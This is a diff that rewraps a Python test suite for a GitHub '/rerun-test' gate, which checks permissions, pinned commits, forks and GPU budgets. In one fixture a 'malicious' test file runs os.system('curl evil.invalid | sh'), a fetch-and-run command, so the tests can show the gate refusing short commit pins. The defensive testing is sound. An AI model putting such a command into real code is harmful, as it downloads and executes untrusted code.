@@ -18,7 +18,15 @@ from generator.github.client import GitHub, GitHubApiError, Push
 from generator.rerun.budget import Budget
 from generator.rerun.gate import PullHead, pin_head, read_pull
 from generator.rerun.parse import RerunRejected
-from generator.rerun.policy import DEFAULT_SOURCE, PolicyTeam, PolicyUser, RerunPolicy, authorize, load_policy, parse_policy
+from generator.rerun.policy import (
+    DEFAULT_SOURCE,
+    PolicyTeam,
+    PolicyUser,
+    RerunPolicy,
+    authorize,
+    load_policy,
+    parse_policy,
+)
 from tests.rerun_support import E2E, LINK_OUT, OUTSIDE_SECRET, FakeGitHub, write_rerun_tree
 
 REPO = "octo/gpu"
@@ -80,7 +88,9 @@ def test_http_errors_become_one_line_user_errors(github):
     github.on("GET", f"/repos/{REPO}/pulls/12", {"message": "Resource not accessible by integration"}, status=403)
     with pytest.raises(GitHubApiError) as error:
         client(github).pull(12)
-    assert str(error.value) == f"GET /repos/{REPO}/pulls/12: github-api: HTTP 403: Resource not accessible by integration"
+    assert (
+        str(error.value) == f"GET /repos/{REPO}/pulls/12: github-api: HTTP 403: Resource not accessible by integration"
+    )
 
 
 def test_hostile_path_arguments_never_reach_the_network(github):
@@ -184,7 +194,10 @@ def test_permission_is_checked_live(github, role, allowed, reason):
 
 def test_an_unknown_user_has_no_permission(github):
     verdict = authorize(RerunPolicy("p"), client(github), "stranger", 9)
-    assert (verdict.allowed, verdict.reason) == (False, "@stranger may not run /rerun-test: has none permission, needs write")
+    assert (verdict.allowed, verdict.reason) == (
+        False,
+        "@stranger may not run /rerun-test: has none permission, needs write",
+    )
 
 
 def test_an_answer_about_another_user_is_refused(github):
@@ -200,7 +213,10 @@ def test_listed_users_need_no_api_call_and_admin_policies_refuse_writers(github)
     assert github.requests == []
     github.on("GET", f"/repos/{REPO}/collaborators/bob/permission", permission("bob", "write"))
     verdict = authorize(RerunPolicy("p.yml", permission="admin"), client(github), "bob", 7)
-    assert (verdict.allowed, verdict.reason) == (False, "@bob may not run /rerun-test: has write permission, needs admin")
+    assert (verdict.allowed, verdict.reason) == (
+        False,
+        "@bob may not run /rerun-test: has write permission, needs admin",
+    )
 
 
 def test_a_listed_login_taken_over_by_another_account_is_not_listed(github):
@@ -218,7 +234,9 @@ def test_team_membership_is_checked_and_unreadable_teams_are_explained(github):
     github.on("GET", "/orgs/octo/teams/gpu-ci/memberships/carol", {"state": "active", "role": "member"})
     policy = RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41), PolicyTeam("octo/gpu-ci", 42)))
     assert authorize(policy, client(github), "carol", 7).reason == "@carol is a member of octo/gpu-ci"
-    verdict = authorize(RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41),)), client(github), "carol", 7)
+    verdict = authorize(
+        RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41),)), client(github), "carol", 7
+    )
     assert (verdict.allowed, verdict.reason) == (
         False,
         "@carol may not run /rerun-test: team octo/secret could not be checked (HTTP 403: Forbidden)",
@@ -230,7 +248,11 @@ def test_team_membership_is_checked_and_unreadable_teams_are_explained(github):
     [
         ({"id": 99}, 200, "team octo/gpu-ci has id 99, not 42 as the policy says"),
         ({"message": "Not Found"}, 404, "team octo/gpu-ci does not exist, not 42 as the policy says"),
-        ({"id": "42"}, 200, "team octo/gpu-ci could not be checked (unexpected answer: answer.id is a string, not an integer)"),
+        (
+            {"id": "42"},
+            200,
+            "team octo/gpu-ci could not be checked (unexpected answer: answer.id is a string, not an integer)",
+        ),
     ],
     ids=["renamed-and-replaced", "deleted", "malformed"],
 )
@@ -238,7 +260,9 @@ def test_teams_are_matched_by_id_before_membership(github, answer, status, reaso
     """Regression: a team slug can be renamed and a new team take it; the policy's id decides."""
     github.on("GET", "/orgs/octo/teams/gpu-ci", answer, status=status)
     github.on("GET", "/orgs/octo/teams/gpu-ci/memberships/carol", {"state": "active", "role": "member"})
-    verdict = authorize(RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/gpu-ci", 42),)), client(github), "carol", 7)
+    verdict = authorize(
+        RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/gpu-ci", 42),)), client(github), "carol", 7
+    )
     assert (verdict.allowed, verdict.reason) == (False, f"@carol may not run /rerun-test: {reason}")
     assert ("GET", "/orgs/octo/teams/gpu-ci/memberships/carol") not in github.calls()
 
@@ -287,7 +311,11 @@ def test_a_head_pushed_strictly_before_the_comment_is_accepted_pinned_or_not():
     "answer, code, reason",
     [
         (pull(state="closed"), "pull-closed", "pull request #12 is closed"),
-        ({**pull(), "head": {"sha": SHA, "ref": "feature", "repo": None}}, "head-repo-gone", "the head repository of #12 was deleted"),
+        (
+            {**pull(), "head": {"sha": SHA, "ref": "feature", "repo": None}},
+            "head-repo-gone",
+            "the head repository of #12 was deleted",
+        ),
         ({**pull(), "number": 13}, "wrong-pull", f"GitHub answered about another pull request than #12 of {REPO}"),
         (pull(sha="main"), "bad-head", "the head commit of #12 is not a commit SHA"),
     ],
@@ -323,7 +351,10 @@ def collision(tmp_path_factory) -> tuple[str, str, Path]:
 
     git("init", "-q")
     trees = {}
-    for kind, source in (("benign", "print('ok')\n"), ("malicious", "import os\nos.system('curl evil.invalid | sh')\n")):
+    for kind, source in (
+        ("benign", "print('ok')\n"),
+        ("malicious", "import os\nos.system('curl evil.invalid | sh')\n"),
+    ):
         blob = git("hash-object", "-w", "--stdin", data=source.encode())
         trees[kind] = git("mktree", data=f"100644 blob {blob}\ttest_x.py\n".encode())
     seen: dict[str, dict[str, bytes]] = {"benign": {}, "malicious": {}}
@@ -345,8 +376,13 @@ def test_the_collision_is_two_real_commits_git_itself_cannot_tell_apart_by_7_dig
     benign, malicious, repo = collision
     assert benign != malicious and benign[:7] == malicious[:7]
     for sha in (benign, malicious):
-        assert subprocess.run(["git", "cat-file", "-t", sha], cwd=repo, capture_output=True, text=True).stdout == "commit\n"
-    ambiguous = subprocess.run(["git", "rev-parse", "--verify", "--quiet", f"{benign[:7]}^{{commit}}"], cwd=repo, capture_output=True)
+        assert (
+            subprocess.run(["git", "cat-file", "-t", sha], cwd=repo, capture_output=True, text=True).stdout
+            == "commit\n"
+        )
+    ambiguous = subprocess.run(
+        ["git", "rev-parse", "--verify", "--quiet", f"{benign[:7]}^{{commit}}"], cwd=repo, capture_output=True
+    )
     assert ambiguous.returncode != 0
 
 
@@ -382,7 +418,15 @@ def gate_env(server: FakeGitHub, output: Path, body: str, author: str = "alice",
     }
 
 
-def run_gate(server: FakeGitHub, tree: Path, tmp_path: Path, body: str, *args: str, author: str = "alice", association: str = "MEMBER"):
+def run_gate(
+    server: FakeGitHub,
+    tree: Path,
+    tmp_path: Path,
+    body: str,
+    *args: str,
+    author: str = "alice",
+    association: str = "MEMBER",
+):
     output = tmp_path / "github_output"
     output.write_text("")
     result = CliRunner().invoke(
@@ -403,7 +447,9 @@ STATUS = ("POST", f"/repos/{REPO}/statuses/{SHA}")
 REFUSED_TRAIL = [REACT, REPLY]
 
 
-def serve_happy_path(server: FakeGitHub, activity: list[dict] | None = None, comments: list[dict] | None = None) -> None:
+def serve_happy_path(
+    server: FakeGitHub, activity: list[dict] | None = None, comments: list[dict] | None = None
+) -> None:
     server.on(*PERMISSION, permission("alice", "write"))
     server.on(*PULL, pull())
     server.on(*ACTIVITY, activity if activity is not None else pushed("2026-07-20T09:58:00Z"))
@@ -432,7 +478,13 @@ def test_gate_accepts_answers_and_sets_pending_statuses(github, tree, tmp_path):
     assert result.stdout == f"accepted: 2 test runs at {SHA}\n"
     assert github.calls() == [PERMISSION, PULL, ACTIVITY, COMMENTS, REACT, REPLY, STATUS, STATUS]
     assert github.requests[2].query == {"ref": "refs/heads/feature", "direction": "desc", "per_page": "10"}
-    assert github.requests[3].query == {"since": "2026-07-19T10:00:00Z", "sort": "created", "direction": "desc", "per_page": "100", "page": "1"}
+    assert github.requests[3].query == {
+        "since": "2026-07-19T10:00:00Z",
+        "sort": "created",
+        "direction": "desc",
+        "per_page": "100",
+        "page": "1",
+    }
     assert github.bodies(*REACT) == [{"content": "rocket"}]
     assert replies(github) == [
         "<!-- cigen:rerun-test jobs=2 gpu-minutes=3 -->\n"
@@ -442,8 +494,18 @@ def test_gate_accepts_answers_and_sets_pending_statuses(github, tree, tmp_path):
         f"| `{selector}` | `4-gpu-b200` | ⏳ queued |  |"
     ]
     assert github.bodies(*STATUS) == [
-        {"state": "pending", "context": f"rerun-test {selector} (1-gpu-h100)", "description": "queued by @alice", "target_url": RUN_URL},
-        {"state": "pending", "context": f"rerun-test {selector} (4-gpu-b200)", "description": "queued by @alice", "target_url": RUN_URL},
+        {
+            "state": "pending",
+            "context": f"rerun-test {selector} (1-gpu-h100)",
+            "description": "queued by @alice",
+            "target_url": RUN_URL,
+        },
+        {
+            "state": "pending",
+            "context": f"rerun-test {selector} (4-gpu-b200)",
+            "description": "queued by @alice",
+            "target_url": RUN_URL,
+        },
     ]
     lines = dict(line.split("=", 1) for line in outputs.splitlines())
     assert lines["accepted"] == "true" and lines["head_sha"] == SHA and lines["reply_id"] == "555"
@@ -508,7 +570,10 @@ def test_gate_explains_a_hostile_comment_inside_a_fence_it_cannot_break(github, 
 def test_gate_refuses_when_the_pr_moved_after_the_comment(github, tree, tmp_path):
     serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z"))
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
-    assert result.stdout == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
+    assert (
+        result.stdout
+        == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
+    )
     assert outputs == "accepted=false\n"
     assert STATUS not in github.calls()
 
@@ -530,7 +595,10 @@ def test_gate_refuses_a_push_in_the_same_second_as_the_comment(github, tree, tmp
 def test_gate_with_a_full_pin_still_needs_the_push_log(github, tree, tmp_path):
     serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z"))
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{SHA.upper()}")
-    assert result.stdout == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
+    assert (
+        result.stdout
+        == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
+    )
     assert ACTIVITY in github.calls() and STATUS not in github.calls()
     github.on(*ACTIVITY, pushed("2026-07-20T09:00:00Z"))
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{SHA}")
@@ -554,7 +622,10 @@ def test_gate_refuses_a_short_pin_that_a_malicious_commit_shares(github, tree, t
     assert replies(github) == [rejection(reason)]
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{benign}")
     assert outputs == "accepted=false\n"
-    assert result.stdout == f"rejected: the head is now {malicious[:12]}, not @{benign[:12]}: review the new commits and comment again\n"
+    assert (
+        result.stdout
+        == f"rejected: the head is now {malicious[:12]}, not @{benign[:12]}: review the new commits and comment again\n"
+    )
     assert not [call for call in github.calls("POST") if "/statuses/" in call[1]]
 
 
@@ -563,20 +634,29 @@ def test_gate_refuses_forks_unless_the_policy_allows_them(github, tree, tmp_path
     github.on(*PULL, pull(fork=True))
     github.on("GET", "/repos/mallory/gpu/activity", pushed("2026-07-20T09:00:00Z"))
     result, _ = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
-    assert result.stdout == "rejected: the pull request comes from the fork mallory/gpu, and <default /rerun-test policy> does not allow forks\n"
+    assert (
+        result.stdout
+        == "rejected: the pull request comes from the fork mallory/gpu, and <default /rerun-test policy> does not allow forks\n"
+    )
     (tmp_path / "policy.yml").write_text("version: 1\nforks: true\n")
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
     assert result.stdout == f"accepted: 1 test run at {SHA}\n"
     assert ("GET", "/repos/mallory/gpu/activity") in github.calls()
 
 
-@pytest.mark.parametrize("body", [f"/Rerun-test {E2E}", f"/RERUN-TEST {E2E}", f"/rerun-TEST {E2E}", f" /rerun-test {E2E}", f"/rerun-test\n{E2E}"])
+@pytest.mark.parametrize(
+    "body",
+    [f"/Rerun-test {E2E}", f"/RERUN-TEST {E2E}", f"/rerun-TEST {E2E}", f" /rerun-test {E2E}", f"/rerun-test\n{E2E}"],
+)
 def test_gate_ignores_a_comment_that_is_not_exactly_the_command_without_an_api_call(github, tree, tmp_path, body):
     """Regression: the workflow's `startsWith` is case-insensitive; the gate re-checks exactly,
     before reading anything or calling the API (a stranger's comment costs nothing)."""
     result, outputs = run_gate(github, tree, tmp_path, body)
     assert result.exit_code == 0, result.output
-    assert (result.stdout, outputs) == ("rejected: ignored: the comment does not start with /rerun-test (case-sensitive)\n", "accepted=false\n")
+    assert (result.stdout, outputs) == (
+        "rejected: ignored: the comment does not start with /rerun-test (case-sensitive)\n",
+        "accepted=false\n",
+    )
     assert github.requests == []
 
 
@@ -614,7 +694,9 @@ def test_gate_never_echoes_a_linked_file_from_outside_the_tree(github, tree, tmp
 # -- budgets over 24 hours ----------------------------------------------------------------------
 
 
-def comment(issue: int, first_line: str, at: str = "2026-07-20T09:00:00Z", login: str = "github-actions[bot]", kind: str = "Bot") -> dict:
+def comment(
+    issue: int, first_line: str, at: str = "2026-07-20T09:00:00Z", login: str = "github-actions[bot]", kind: str = "Bot"
+) -> dict:
     return {
         "id": 900,
         "issue_url": f"https://api.github.com/repos/{REPO}/issues/{issue}",
@@ -632,10 +714,26 @@ def used(jobs: int, minutes: int) -> str:
 @pytest.mark.parametrize(
     "comments, code, reason",
     [
-        ([comment(12, used(15, 10)), comment(12, used(1, 0))], "pull-request-budget", "pull request #12: 16 test jobs in the last 24 hours plus 1 is more than 16; try again later"),
-        ([comment(12, used(1, 2878))], "pull-request-budget", "pull request #12: 2878 estimated GPU-minutes in the last 24 hours plus 3 is more than 2880; try again later"),
-        ([comment(n, used(4, 10)) for n in range(20, 36)], "repository-budget", "this repository: 64 test jobs in the last 24 hours plus 1 is more than 64; try again later"),
-        ([comment(30, used(1, 11518))], "repository-budget", "this repository: 11518 estimated GPU-minutes in the last 24 hours plus 3 is more than 11520; try again later"),
+        (
+            [comment(12, used(15, 10)), comment(12, used(1, 0))],
+            "pull-request-budget",
+            "pull request #12: 16 test jobs in the last 24 hours plus 1 is more than 16; try again later",
+        ),
+        (
+            [comment(12, used(1, 2878))],
+            "pull-request-budget",
+            "pull request #12: 2878 estimated GPU-minutes in the last 24 hours plus 3 is more than 2880; try again later",
+        ),
+        (
+            [comment(n, used(4, 10)) for n in range(20, 36)],
+            "repository-budget",
+            "this repository: 64 test jobs in the last 24 hours plus 1 is more than 64; try again later",
+        ),
+        (
+            [comment(30, used(1, 11518))],
+            "repository-budget",
+            "this repository: 11518 estimated GPU-minutes in the last 24 hours plus 3 is more than 11520; try again later",
+        ),
     ],
     ids=["pr jobs", "pr gpu-minutes", "repository jobs", "repository gpu-minutes"],
 )
@@ -665,7 +763,10 @@ def test_only_the_reply_bots_answers_of_the_last_24_hours_count(github, tree, tm
     assert result.stdout == f"accepted: 1 test run at {SHA}\n", result.output
     (tmp_path / "policy.yml").write_text("version: 1\nbudget:\n  per_pull_request_per_day: {jobs: 15}\n")
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
-    assert result.stdout == "rejected: pull request #12: 15 test jobs in the last 24 hours plus 1 is more than 15; try again later\n"
+    assert (
+        result.stdout
+        == "rejected: pull request #12: 15 test jobs in the last 24 hours plus 1 is more than 15; try again later\n"
+    )
 
 
 @pytest.mark.parametrize(
@@ -674,9 +775,21 @@ def test_only_the_reply_bots_answers_of_the_last_24_hours_count(github, tree, tm
         ({"message": "Server Error"}, 500, "HTTP 500: Server Error"),
         ({"comments": []}, 200, "unexpected answer: answer is an object, not a list"),
         ([comment(12, used(1, 1)) | {"user": None}], 200, "unexpected answer: page 1[0].user is null, not an object"),
-        ([comment(12, used(1, 1), at="2026-07-20T09:00:00")], 200, "unexpected answer: page 1[0].created_at is not an ISO 8601 time with a timezone"),
-        ([comment(12, used(1, 1)) | {"issue_url": "https://x.invalid/"}], 200, "unexpected answer: page 1[0].issue_url does not name an issue"),
-        ([comment(12, used(1, 1)) for _ in range(100)], 200, "more than 2000 comments since 2026-07-19T10:00:00Z: cannot count them all"),
+        (
+            [comment(12, used(1, 1), at="2026-07-20T09:00:00")],
+            200,
+            "unexpected answer: page 1[0].created_at is not an ISO 8601 time with a timezone",
+        ),
+        (
+            [comment(12, used(1, 1)) | {"issue_url": "https://x.invalid/"}],
+            200,
+            "unexpected answer: page 1[0].issue_url does not name an issue",
+        ),
+        (
+            [comment(12, used(1, 1)) for _ in range(100)],
+            200,
+            "more than 2000 comments since 2026-07-19T10:00:00Z: cannot count them all",
+        ),
     ],
     ids=["http error", "not a list", "user null", "naive time", "bad issue url", "too many to count"],
 )
@@ -701,7 +814,9 @@ def test_measured_seconds_from_the_plan_file_set_the_estimate(github, tmp_path, 
     (tree / ".github/cigen/plan.json").write_text('{"suites": {"nightly-1-gpu": {"shards": {}}}}')
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
     assert (result.exit_code, outputs) == (2, "accepted=false\n")
-    assert result.stderr == f"{tree}/.github/cigen/plan.json: bad-plan-json: suites.nightly-1-gpu.shards must be a list\n"
+    assert (
+        result.stderr == f"{tree}/.github/cigen/plan.json: bad-plan-json: suites.nightly-1-gpu.shards must be a list\n"
+    )
 
 
 # -- API answers are input: unexpected ones fail closed, with an answer -------------------------
@@ -817,10 +932,23 @@ def target(pool: str, selector: str = E2E, gpus: int = 1) -> dict:
 
 
 def job(name: str, conclusion: str | None, run: tuple[str, str] | None, url: str) -> dict:
-    steps = [{"name": "Check out the pinned head commit", "started_at": "2026-07-20T10:01:00Z", "completed_at": "2026-07-20T10:01:10Z"}]
+    steps = [
+        {
+            "name": "Check out the pinned head commit",
+            "started_at": "2026-07-20T10:01:00Z",
+            "completed_at": "2026-07-20T10:01:10Z",
+        }
+    ]
     if run:
         steps.append({"name": "Run the test", "started_at": run[0], "completed_at": run[1]})
-    return {"name": name, "conclusion": conclusion, "started_at": "2026-07-20T10:01:00Z", "completed_at": "2026-07-20T10:09:00Z", "html_url": url, "steps": steps}
+    return {
+        "name": name,
+        "conclusion": conclusion,
+        "started_at": "2026-07-20T10:01:00Z",
+        "completed_at": "2026-07-20T10:09:00Z",
+        "html_url": url,
+        "steps": steps,
+    }
 
 
 def run_report(server: FakeGitHub, targets: dict, reply_id: str = "555"):
@@ -851,15 +979,29 @@ def test_report_posts_pass_fail_duration_and_links(github):
             "total_count": 4,
             "jobs": [
                 {"name": "Check the request", "conclusion": "success", "steps": []},
-                job(f"1-gpu-h100: {E2E}", "success", ("2026-07-20T10:02:00Z", "2026-07-20T10:05:12Z"), "https://github.com/j/1"),
-                job(f"4-gpu-b200: {FA3}", "failure", ("2026-07-20T10:02:00Z", "2026-07-20T10:02:45Z"), "https://github.com/j/2"),
+                job(
+                    f"1-gpu-h100: {E2E}",
+                    "success",
+                    ("2026-07-20T10:02:00Z", "2026-07-20T10:05:12Z"),
+                    "https://github.com/j/1",
+                ),
+                job(
+                    f"4-gpu-b200: {FA3}",
+                    "failure",
+                    ("2026-07-20T10:02:00Z", "2026-07-20T10:02:45Z"),
+                    "https://github.com/j/2",
+                ),
             ],
         },
     )
     github.on(*STATUS, {}, status=201)
     github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
     github.on(*REACT, {}, status=201)
-    targets = {"1-gpu-h100": [target("1-gpu-h100")], "4-gpu-b200": [target("4-gpu-b200", FA3, 4)], "8-gpu-h200": [target("8-gpu-h200", FA3, 8)]}
+    targets = {
+        "1-gpu-h100": [target("1-gpu-h100")],
+        "4-gpu-b200": [target("4-gpu-b200", FA3, 4)],
+        "8-gpu-h200": [target("8-gpu-h200", FA3, 8)],
+    }
     result = run_report(github, targets)
     assert result.exit_code == 0, result.output
     assert result.stdout.splitlines() == [
@@ -868,9 +1010,24 @@ def test_report_posts_pass_fail_duration_and_links(github):
         f"{E2E} (1-gpu-h100): passed, 3m 12s",
     ]
     assert github.bodies(*STATUS) == [
-        {"state": "failure", "context": f"rerun-test {FA3} (4-gpu-b200)", "description": "failed in 45s", "target_url": "https://github.com/j/2"},
-        {"state": "error", "context": f"rerun-test {FA3} (8-gpu-h200)", "description": "did not run", "target_url": RUN_URL},
-        {"state": "success", "context": f"rerun-test {E2E} (1-gpu-h100)", "description": "passed in 3m 12s", "target_url": "https://github.com/j/1"},
+        {
+            "state": "failure",
+            "context": f"rerun-test {FA3} (4-gpu-b200)",
+            "description": "failed in 45s",
+            "target_url": "https://github.com/j/2",
+        },
+        {
+            "state": "error",
+            "context": f"rerun-test {FA3} (8-gpu-h200)",
+            "description": "did not run",
+            "target_url": RUN_URL,
+        },
+        {
+            "state": "success",
+            "context": f"rerun-test {E2E} (1-gpu-h100)",
+            "description": "passed in 3m 12s",
+            "target_url": "https://github.com/j/1",
+        },
     ]
     assert github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555") == [
         {
@@ -901,8 +1058,14 @@ def test_report_without_an_answer_comment_posts_one_and_thumbs_up_when_all_pass(
     "answer, detail",
     [
         ({"total_count": 1, "jobs": ["1-gpu-h100"]}, "answer.jobs[0] is a string, not an object"),
-        ({"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", 0, None, "u")]}, "jobs[0].conclusion is an integer, not a string"),
-        ({"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", "success", ("2026-07-20T10:02:00", "x"), "u")]}, "jobs[0].steps[1].started_at is not an ISO 8601 time with a timezone"),
+        (
+            {"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", 0, None, "u")]},
+            "jobs[0].conclusion is an integer, not a string",
+        ),
+        (
+            {"total_count": 1, "jobs": [job(f"1-gpu-h100: {E2E}", "success", ("2026-07-20T10:02:00", "x"), "u")]},
+            "jobs[0].steps[1].started_at is not an ISO 8601 time with a timezone",
+        ),
         ({"total_count": "1", "jobs": []}, "answer.total_count is a string, not an integer"),
         ({"jobs": None}, "answer.jobs is null, not a list"),
     ],
@@ -916,9 +1079,18 @@ def test_report_counts_unreadable_outcomes_as_errors_never_as_passed(github, ans
     github.on(*REACT, {}, status=201)
     result = run_report(github, {"1-gpu-h100": [target("1-gpu-h100")]})
     assert result.exit_code == 0, result.output
-    assert github.bodies(*STATUS) == [{"state": "error", "context": f"rerun-test {E2E} (1-gpu-h100)", "description": "did not run", "target_url": RUN_URL}]
+    assert github.bodies(*STATUS) == [
+        {
+            "state": "error",
+            "context": f"rerun-test {E2E} (1-gpu-h100)",
+            "description": "did not run",
+            "target_url": RUN_URL,
+        }
+    ]
     [body] = github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555")
-    assert body["body"].endswith(f"```text\nthe test jobs' outcomes could not be read: {JOBS[0]} {JOBS[1]}: github-answer: unexpected answer: {detail}\n```")
+    assert body["body"].endswith(
+        f"```text\nthe test jobs' outcomes could not be read: {JOBS[0]} {JOBS[1]}: github-answer: unexpected answer: {detail}\n```"
+    )
     assert github.bodies(*REACT) == [{"content": "-1"}]
 
 
@@ -940,9 +1112,13 @@ def test_authorize_command_exits_0_for_writers_and_2_for_readers(github, tmp_pat
     github.on("GET", f"/repos/{REPO}/collaborators/alice/permission", permission("alice", "write"))
     github.on("GET", f"/repos/{REPO}/collaborators/bob/permission", permission("bob", "read", user_id=8))
     policy = str(tmp_path / "none.yml")
-    ok = CliRunner().invoke(cli, ["rerun", "authorize", "--policy", policy, "--user", "alice", "--user-id", "7"], env=api_env(github))
+    ok = CliRunner().invoke(
+        cli, ["rerun", "authorize", "--policy", policy, "--user", "alice", "--user-id", "7"], env=api_env(github)
+    )
     assert (ok.exit_code, json.loads(ok.stdout)) == (0, {"allowed": True, "reason": "@alice has write permission"})
-    no = CliRunner().invoke(cli, ["rerun", "authorize", "--policy", policy, "--user", "bob", "--user-id", "8"], env=api_env(github))
+    no = CliRunner().invoke(
+        cli, ["rerun", "authorize", "--policy", policy, "--user", "bob", "--user-id", "8"], env=api_env(github)
+    )
     assert no.exit_code == 2
     assert no.stderr == f"{policy}: not-allowed: @bob may not run /rerun-test: has read permission, needs write\n"
 
@@ -960,9 +1136,15 @@ def test_head_command_prints_the_pinned_commit_or_why_not(github, tmp_path):
         "the head commit cannot be pinned.\n"
     )
     bad = CliRunner().invoke(cli, [*args, "--commented-at", "yesterday"], env=api_env(github))
-    assert (bad.exit_code, bad.stderr) == (2, "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: 'yesterday'\n")
+    assert (bad.exit_code, bad.stderr) == (
+        2,
+        "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: 'yesterday'\n",
+    )
     naive = CliRunner().invoke(cli, [*args, "--commented-at", "2026-07-20T10:00:00"], env=api_env(github))
-    assert (naive.exit_code, naive.stderr) == (2, "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: '2026-07-20T10:00:00'\n")
+    assert (naive.exit_code, naive.stderr) == (
+        2,
+        "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: '2026-07-20T10:00:00'\n",
+    )
     short = CliRunner().invoke(cli, [*args, "--commented-at", COMMENTED, "--pin", SHA[:7]], env=api_env(github))
     assert (short.exit_code, short.stderr) == (2, "--pin: short-pin: give the full 40-hex-digit commit SHA\n")
 
@@ -971,11 +1153,15 @@ def test_gate_writes_its_decision_to_the_job_summary(github, tree, tmp_path):
     serve_happy_path(github)
     output, summary = tmp_path / "out", tmp_path / "summary.md"
     env = {**gate_env(github, output, f"/rerun-test {E2E}"), "GITHUB_STEP_SUMMARY": str(summary)}
-    result = CliRunner().invoke(cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env)
+    result = CliRunner().invoke(
+        cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env
+    )
     assert result.exit_code == 0, result.output
     assert summary.read_text() == f"/rerun-test accepted: 1 test run at {SHA}\n"
     env["COMMENT_BODY"] = f"/rerun-test {E2E} `x`\n"
-    result = CliRunner().invoke(cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env)
+    result = CliRunner().invoke(
+        cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env
+    )
     assert summary.read_text().split("\n")[1:] == [
         "/rerun-test rejected:",
         "",
